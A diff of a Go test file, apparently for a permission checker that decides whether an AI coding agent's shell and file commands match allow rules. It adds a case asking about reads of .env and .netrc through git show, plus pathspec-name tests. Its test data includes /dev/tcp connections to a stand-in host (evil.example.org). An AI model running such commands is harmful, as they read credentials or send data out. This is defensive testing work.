@@ -68,7 +68,7 @@ func TestEachPartOfARuleCounts(t *testing.T) {
 			asked: "cat < x/dev/tcp/evil.example.org/80; cat < /dev/tcp/evil.example.org/81"},
 		{allow: "run echo ...; fetch api.example.org:81", allowed: "echo a > /dev/tcp/api.example.org/81",
 			asked: "echo a > x/dev/tcp/api.example.org/81; echo a > ../dev/tcp/api.example.org/81"},
-		{allow: "run git show *", allowed: "git show HEAD", asked: "git show HEAD:.env"},
+		{allow: "run git show *", allowed: "git show HEAD", asked: "git show HEAD:.env; git show HEAD:.netrc"},
 		{allow: "run git status [-v]", allowed: "git status -v", asked: "git -v status"},
 		{allow: "run mytool x-*-y", allowed: "mytool x-1-y; mytool x--y", asked: "mytool x-y; mytool x-a/b-y"},
 		{allow: "run mytool *.go", allowed: "mytool a.go", asked: "mytool -o.go"},
@@ -200,6 +200,11 @@ func TestTheTextOfACallMayHaveNames(t *testing.T) {
 	call := Call{Dialect: "claude-code", Tool: "Read", Input: []byte(`{"file_path":"[s]ud"}`), Folder: shop, Root: shop}
 	if names, _, whole := Names(call, 1<<15); !whole || !slices.Contains(names, shop+"/[s]ud") {
 		t.Errorf("of a file %q, whole %v", names, whole)
+	}
+	for _, command := range []string{"git log -L1,5:sud", "git log '-L1,5:(top)sud'", "git log '-L1,5:!sud'"} {
+		if names, _, _ := Names(Call{Command: command, Folder: shop, Root: shop}, 1<<15); !slices.Contains(names, shop+"/sud") {
+			t.Errorf("%s: %q", command, names)
+		}
 	}
 	call.Tool, call.Input = "Glob", []byte(`{"pattern":"sud/*"}`)
 	if _, text, whole := Names(call, 1<<15); !whole || !strings.Contains(text, "sud/*") {
